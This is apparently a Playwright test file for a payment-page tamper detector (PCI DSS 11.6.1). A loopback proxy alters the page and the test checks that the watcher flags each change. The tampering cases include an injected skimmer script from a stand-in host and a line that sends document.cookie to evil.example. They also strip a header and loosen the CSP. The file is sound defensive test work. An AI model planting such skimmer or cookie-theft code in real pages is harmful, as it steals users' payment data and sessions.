// The payment-page change check (scripts/page-watch.mjs, PCI DSS 11.6.1)
// against the running reference server: the served page matches the
// committed snapshot, and each kind of tampering, made by a loopback proxy
// in front of the server, is reported with a non-zero exit.
import { test, expect } from '@playwright/test';
import { execFile } from 'node:child_process';
import http from 'node:http';

const watch = (url) =>
  new Promise((resolve) => {
    execFile('node', ['scripts/page-watch.mjs', url], { timeout: 20_000 }, (err, stdout, stderr) =>
      resolve({ code: err ? err.code : 0, out: stdout + stderr }),
    );
  });

/** A proxy on 127.0.0.1 that passes everything through `tamper`. */
async function tamperingProxy(upstream, tamper) {
  const server = http.createServer(async (req, res) => {
    const up = await fetch(new URL(req.url, upstream));
    const headers = Object.fromEntries([...up.headers].filter(([k]) => !['content-encoding', 'content-length', 'transfer-encoding'].includes(k)));
    const body = await up.text();
    const out = tamper({ path: new URL(req.url, upstream).pathname, headers, body });
    res.writeHead(up.status, out.headers);
    res.end(out.body);
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  return { url: `http://127.0.0.1:${server.address().port}/`, close: () => new Promise((r) => server.close(r)) };
}

const page = (f) => (r) => (r.path === '/' ? f(r) : r);

const tampering = {
  'a skimmer script added': page((r) => ({ ...r, body: r.body.replace('</body>', '<script src="https://cdn.evil.example/skim.js"></script></body>') })),
  'a security header removed': page((r) => {
    const { ['x-content-type-options']: _, ...headers } = r.headers;
    return { ...r, headers };
  }),
  'the CSP loosened': page((r) => ({
    ...r,
    headers: { ...r.headers, 'content-security-policy': r.headers['content-security-policy'].replace('script-src ', 'script-src https: ') },
  })),
  'an inline script changed': page((r) => ({ ...r, body: r.body.replace('__bookingCheckoutEarly', '__bookingCheckoutEarly,x=1') })),
  'a same-origin script replaced': (r) =>
    /^\/booking-checkout-[0-9a-f]+\.js$/.test(r.path) ? { ...r, body: `${r.body};fetch("https://evil.example/"+document.cookie)` } : r,
};

test('the served payment page matches the committed snapshot', async ({ baseURL }) => {
  const { code, out } = await watch(`${baseURL}/`);
  expect(out).toContain('matches docs/page-snapshot.json');
  expect(code).toBe(0);
});

for (const [what, tamper] of Object.entries(tampering)) {
  test(`page-watch reports ${what}`, async ({ baseURL }) => {
    const proxy = await tamperingProxy(baseURL, tamper);
    try {
      const { code, out } = await watch(proxy.url);
      expect(out).toContain('CHANGED');
      expect(code).toBe(1);
    } finally {
      await proxy.close();
    }
  });
}
